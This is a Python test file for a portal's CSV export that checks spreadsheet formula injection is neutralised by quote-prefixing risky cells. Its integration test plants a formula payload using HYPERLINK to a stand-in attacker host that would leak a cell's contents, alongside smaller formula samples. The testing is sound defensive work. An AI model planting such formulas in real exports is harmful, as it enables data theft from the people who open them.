"""CSV exports cannot smuggle spreadsheet formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from sqlalchemy import update

from dme_portal.auth.roles import Role
from dme_portal.config import Settings
from dme_portal.csvsafe import safe_cell, safe_row
from dme_portal.db.engine import Database
from dme_portal.db.session import unit_of_work
from dme_portal.networks.models import Network
from fixtures.factories import World, auth_headers, request_body

URL = "/v1/reports/prior-authorization-metrics"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("CHOC Health Alliance", "CHOC Health Alliance"),
        ("a=b", "a=b"),
        (None, ""),
        (-3, "-3"),
        (-0.5, "-0.5"),
        (12, "12"),
        (True, "True"),
        ("", ""),
    ],
)
def test_safe_cell(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_safe_row() -> None:
    assert safe_row(["=1", 2, None, "x"]) == ["'=1", "2", "", "x"]


async def test_the_metrics_csv_neutralises_a_formula_in_a_network_name(
    client: httpx.AsyncClient, world: World, database: Database, settings: Settings
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    async with unit_of_work(database) as session:
        await session.execute(
            update(Network).where(Network.id == world.network_a.id).values(name=formula)
        )
    submitted = await client.post(
        "/v1/authorization-requests",
        json=request_body(world),
        headers=auth_headers(settings, world.principal(Role.VENDOR)),
    )
    assert submitted.status_code == 201, submitted.text

    r = await client.get(
        URL,
        params={"from": "2026-11-01", "to": "2026-11-30", "network": str(world.network_a.id)},
        headers={**auth_headers(settings, world.principal(Role.PLAN_ADMIN)), "Accept": "text/csv"},
    )

    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows
    assert {row["network_name"] for row in rows} == {"'" + formula}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
